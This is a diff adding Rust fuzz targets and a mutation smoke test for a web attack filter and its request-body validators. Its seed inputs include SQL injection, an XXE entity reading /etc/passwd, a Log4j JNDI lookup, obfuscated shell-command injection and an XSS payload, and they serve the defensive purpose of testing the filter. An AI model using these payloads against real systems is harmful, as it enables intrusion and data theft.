@@ -1,0 +1,138 @@
+//! Entry points for the fuzz targets in `fuzz/` (cargo-fuzz, `cargo +nightly fuzz run NAME`)
+//! and for the smoke test below, which runs the same code on every `cargo test`: whatever the
+//! bytes, the decoder, the folds, the attack filter and the body validators must answer,
+//! never panic or hang.
+
+use bytes::Bytes;
+
+use crate::attack_filter::inputs::{self, BodyKind};
+use crate::attack_filter::{AttackFilter, FilterPolicy, Location, Verdict, decode, fold};
+use crate::pipeline::input::{InputConfig, InputPolicy};
+
+/// The boundary of multipart bodies the body target builds.
+pub const BOUNDARY: &str = "fuzz-boundary";
+
+/// Decodes, folds and inspects `data` as a query value.
+pub fn decode_and_inspect(filter: &AttackFilter, data: &[u8]) {
+    let text = String::from_utf8_lossy(data);
+    let decoded = decode::decode(&text);
+    let lower = decoded.to_lowercase();
+    std::hint::black_box((fold::sql(&lower), fold::shell(&lower), fold::log4j(&lower)));
+    std::hint::black_box(decode::base64_payload(&text));
+    let mut verdict = Verdict::default();
+    filter.inspect(
+        &FilterPolicy::default(),
+        Location::Query,
+        "q",
+        &text,
+        &mut verdict,
+    );
+    std::hint::black_box(verdict);
+}
+
+/// Reads `data` as a request body: the first byte picks JSON, form, multipart, XML or text;
+/// the rest is the body. Runs the attack filter's body inspection and, for JSON and
+/// multipart, the route validators with tight limits.
+pub async fn inspect_body(filter: &AttackFilter, data: &[u8]) {
+    let Some((selector, body)) = data.split_first() else {
+        return;
+    };
+    let kind = match selector % 5 {
+        0 => BodyKind::Json,
+        1 => BodyKind::Form,
+        2 => BodyKind::Multipart {
+            boundary: BOUNDARY.into(),
+        },
+        3 => BodyKind::Xml,
+        _ => BodyKind::Text,
+    };
+    let body = Bytes::copy_from_slice(body);
+    let mut verdict = Verdict::default();
+    let _ =
+        inputs::inspect_body(filter, &FilterPolicy::default(), &kind, &body, &mut verdict).await;
+    let policy = InputPolicy::build(&InputConfig {
+        json_max_depth: Some(8),
+        json_max_keys: Some(8),
+        json_max_array_length: Some(8),
+        json_max_string_length: Some(64),
+        upload_types: vec!["png".into(), "text".into()],
+        ..InputConfig::default()
+    })
+    .expect("the fuzzing policy is valid");
+    match kind {
+        BodyKind::Json => {
+            if let Ok(value) = serde_json::from_slice::<serde_json::Value>(&body) {
+                let _ = policy.check_json(&value);
+            }
+        }
+        BodyKind::Multipart { boundary } => {
+            let _ = policy.uploads.check(&boundary, body).await;
+        }
+        _ => {}
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Seeds of every shape the parsers know, mutated by a fixed pseudo-random sequence.
+    const SEEDS: [&[u8]; 8] = [
+        b"{\"a\": [1, {\"b\": \"' or 1=1--\"}], \"c\": null}",
+        b"q=%27%20union%20select&x[]=1&%00=%u003c",
+        b"--fuzz-boundary\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n\x89PNG\r\n\x1a\n<svg>\r\n--fuzz-boundary--\r\n",
+        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a b=\"&x;\">&#x3c;script&#62;</a>",
+        b"${jndi:${lower:l}dap://x/${env:HOME}}",
+        b"c'a't$IFS/e?c/p*d;{ls,-la}|`id`$(whoami)",
+        b"&#0000060;&lt;img src=x onerror=alert(1)&gt; \\u003c \xef\xbc\x9c \xc0\xbc",
+        b"[[[[[[[[[[[[{\"\":{\"\":[\"\\ud800\"]}}]]]]]]]]]]]]",
+    ];
+
+    /// xorshift64: reproducible, no dependency.
+    fn next(state: &mut u64) -> u64 {
+        *state ^= *state << 13;
+        *state ^= *state >> 7;
+        *state ^= *state << 17;
+        *state
+    }
+
+    fn mutate(seed: &[u8], state: &mut u64) -> Vec<u8> {
+        let mut data = seed.to_vec();
+        for _ in 0..(next(state) % 8) {
+            let at = (next(state) as usize) % (data.len() + 1);
+            match next(state) % 4 {
+                0 if at < data.len() => data[at] = next(state) as u8,
+                1 => data.insert(at, next(state) as u8),
+                2 if at < data.len() => {
+                    data.remove(at);
+                }
+                _ => {
+                    let from = (next(state) as usize) % (data.len() + 1);
+                    let piece: Vec<u8> = data[from..].iter().take(16).copied().collect();
+                    data.splice(at..at, piece);
+                }
+            }
+        }
+        data
+    }
+
+    #[tokio::test]
+    async fn mutated_inputs_never_panic() {
+        let filter = AttackFilter::new();
+        let mut state = 0x5eed_u64;
+        let mut runs = 0;
+        for seed in SEEDS {
+            for _ in 0..300 {
+                let data = mutate(seed, &mut state);
+                decode_and_inspect(&filter, &data);
+                for selector in 0..5u8 {
+                    let mut body = vec![selector];
+                    body.extend_from_slice(&data);
+                    inspect_body(&filter, &body).await;
+                }
+                runs += 1;
+            }
+        }
+        assert_eq!(runs, SEEDS.len() * 300);
+    }
+}
